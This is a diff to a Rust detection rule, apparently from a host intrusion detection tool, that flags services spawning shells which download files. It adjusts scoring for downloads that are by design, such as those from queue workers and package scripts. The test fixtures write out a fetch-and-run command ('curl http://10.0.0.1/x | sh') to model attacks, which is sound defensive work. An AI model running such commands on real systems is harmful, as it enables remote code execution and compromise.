@@ -1,16 +1,17 @@
 //! B1: a service starts a shell that downloads.
 
+use super::service_entry::{is_queue_worker, runs_package_scripts};
 use crate::{
     detect::{Declaration, DetectionContext, Finding, SignalInfo, SignalKind, Stateless},
     model::{EventType, ProcessView, SignalClass},
-    process::{Process, Role, Taint, base_name, installs_packages},
+    process::{Process, Role, Taint, base_name},
 };
 
 /// Maximum number of ancestors of the downloader to inspect. Shells and wrappers such as `timeout` stand between the
 /// service and the downloader.
 const MAX_ANCESTORS: usize = 8;
 
-/// Points of a download in a CI job or in the script of a package.
+/// Points of a download in a CI job, in a task of a queue or in the script of a package.
 const BY_DESIGN: u8 = 3;
 
 /// The signal. The full form is a download that is kept or given to an interpreter. Health checks and archive commands
@@ -51,7 +52,7 @@ fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
                     return None;
                 }
                 // The scripts of a package run in the language of the package, with its installer above them.
-                let is_install = ancestors().any(|above| installs_packages(&above.view.arguments));
+                let is_by_design = is_queue_worker(ancestor) || ancestors().any(runs_package_scripts);
                 let detail = format!(
                     "service '{}' (pid {}) started a shell that ran '{}'",
                     ancestor.view.name,
@@ -64,7 +65,7 @@ fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
                     .value("downloader", &context.process.view.executable.path);
                 let is_used = keeps(&context.process.view)
                     || shells.iter().any(|shell| is_interactive(&shell.view) || pipes(&shell.view));
-                return Some(match (is_install, is_used) {
+                return Some(match (is_by_design, is_used) {
                     (true, _) => by_design(finding),
                     (false, true) => finding.full(),
                     (false, false) => finding,
@@ -158,8 +159,15 @@ mod tests {
     fn services_whose_shells_download_are_found() {
         let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
-        let cases: [&[(&str, &[&str])]; 4] = [
+        let cases: [&[(&str, &[&str])]; 5] = [
             &[("/usr/bin/redis-server", &["redis-server"]), shell, curl],
+            &[
+                ("/usr/bin/node", &["node", "/usr/bin/npm", "start"]),
+                ("/usr/bin/dash", &["sh", "-c", "node server.js"]),
+                ("/usr/bin/node", &["node", "server.js"]),
+                shell,
+                curl,
+            ],
             &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/bash", &["bash", "-i"]), curl],
             &[
                 ("/usr/bin/java", &["java", "-jar", "app.jar"]),
@@ -197,7 +205,7 @@ mod tests {
     fn downloads_by_design_count_little() {
         let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
-        let cases: [&[(&str, &[&str])]; 2] = [
+        let cases: [&[(&str, &[&str])]; 3] = [
             &[
                 ("/usr/bin/node", &["node", "/usr/bin/npm", "install"]),
                 shell,
@@ -206,6 +214,7 @@ mod tests {
                 curl,
             ],
             &[("/usr/bin/java", &["java", "-jar", "jenkins.war"]), shell, curl],
+            &[("/usr/bin/python3", &["python3", "/usr/bin/celery", "-A", "app", "worker"]), shell, curl],
         ];
         for case in cases {
             assert_eq!(lineage(case), [("B1", 3)], "{case:?}");
